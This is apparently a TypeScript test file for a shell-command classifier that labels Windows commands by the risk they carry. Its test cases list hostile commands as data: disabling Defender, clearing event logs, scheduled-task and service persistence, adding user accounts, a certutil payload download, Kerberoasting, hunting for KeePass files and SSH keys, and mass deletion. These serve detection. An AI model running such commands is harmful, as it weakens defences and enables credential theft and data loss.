import { describe, expect, it } from 'vitest'
import { readCommand } from '../testing.ts'

function kinds(command: string): readonly string[] {
  return readCommand(command).effects.map(({ kind }) => kind)
}

describe('words of Windows in the place of a command', () => {
  it.each([
    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'weaken'],
    ['pwsh_dir=x; Clear-EventLog -LogName System', 'weaken'],
    ['schtasks /create /tn a /tr C:\\a.exe /sc onlogon', 'persist'],
    ['SC.EXE create a binPath= C:\\a.exe', 'persist'],
    ['sc create a binPath= C:\\a.exe', 'persist'],
    ['net user a Passw0rd /add', 'grant'],
    ['net user administrator Passw0rd1', 'grant'],
    ['certutil -urlcache -f http://203.0.113.80/a.exe a.exe', 'weaken'],
    ['cmd /c copy a.lnk "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk"', 'write-path'],
    ['"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All', 'weaken'],
    ['Invoke-Kerberoast -OutputFormat Hashcat', 'observe'],
    ['Get-ChildItem -Path ~ -Recurse -Include *.kdbx,id_rsa', 'observe'],
    ['del /s /q C:\\Users\\*', 'delete-path'],
  ])('%s', (command, kind) => {
    expect(kinds(command)).toContain(kind)
  })

  it.each([
    "echo 'Set-MpPreference -DisableRealtimeMonitoring 1'",
    'git commit -m "Clear-EventLog is gone"',
    "cat > a.ps1 <<'END'\nStop-Computer -Force\nEND",
    'grep -rn "schtasks /create" docs',
    'iex -S mix',
    'net ads info',
    'certutil -L -d sql:db',
    'type ls',
    'at -l',
    'apt-get --version',
    'update-alternatives --list java',
    'format-check src',
    'get-caller-identity',
  ])('%s stays what Bash makes of it', (command) => {
    expect(readCommand(command).effects.filter(({ wrapperNames }) => wrapperNames.includes('PowerShell'))).toEqual([])
  })
})
